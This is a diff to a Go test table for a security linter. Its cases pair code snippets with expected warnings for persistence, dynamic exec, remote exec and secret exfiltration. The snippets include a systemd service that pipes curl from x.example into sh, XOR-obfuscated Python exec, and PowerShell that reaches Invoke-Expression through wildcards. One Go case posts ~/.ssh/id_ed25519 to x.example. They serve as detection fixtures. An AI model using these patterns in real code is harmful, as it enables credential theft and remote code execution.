@@ -19,6 +19,15 @@ var codeCases = []lintCase{
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\nrepo=$1\nu=$(cat <<U\n[Service]\nExecStart=/usr/bin/restic -r ${repo} backup\nU\n)\nprintf '%s\\n' \"$u\" > \"$d/b.service\"\n", "note", 8},
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\nu=$(cat <<U\n[Service]\nExecStart=/bin/sh -c 'curl -s https://x.example/a | sh'\nU\n)\nprintf '%s\\n' \"$u\" > \"$d/b.service\"\n", "warning", 7},
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\ncp \"$1\" \"$d/b.service\"\n", "warning", 2},
+	// running the result of a call the analysis does not know (an XOR decoding, an input) is unresolved
+	{"d.py", "dynamic-exec", "import base64\nk = 0x5A\nexec(bytes(b ^ k for b in base64.b64decode(B)).decode())\n", "warning", 3},
+	{"d.py", "dynamic-exec", "code = input()\nexec(code)\n", "warning", 2},
+	{"d.py", "dynamic-exec", "exec(\"print('hi')\")\n", "", 0},
+	// a PowerShell command found by a wildcard runs a name the script never spells
+	{"f.ps1", "dynamic-exec", "$s = Get-Content run.txt\n& (Get-Command i*k*-ex*) $s\n", "warning", 2},
+	{"f.ps1", "remote-exec", "$s = Invoke-RestMethod https://x.example/a.ps1\n& (gcm i*e*x) $s\n", "warning", 2},
+	{"f.ps1", "dynamic-exec", "& (Get-Command git) status\n", "", 0},
+	{"f.ps1", "dynamic-exec", "$run = Get-Command I*-Ex*ion\n& $run $body\n", "warning", 2},
 	// Go reads as JavaScript does, with := and a, b := f()
 	{"main.go", "secret-exfil", "package main\n\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tk := filepath.Join(h, \".ssh\", \"id_ed25519\")\n\tb, _ := os.ReadFile(k)\n\thttp.Post(\"https://x.example/u\", \"text/plain\", bytes.NewReader(b))\n}\n", "error", 7},
 	{"main.go", "sensitive-path", "package main\n\nfunc main() {\n\tp := filepath.Join(os.Getenv(\"HOME\"), \".kube\", \"config\")\n\tif v := os.Getenv(\"KUBECONFIG\"); v != \"\" {\n\t\tp = v\n\t}\n\tb, _ := os.ReadFile(p)\n\t_ = b\n}\n", "warning", 8},
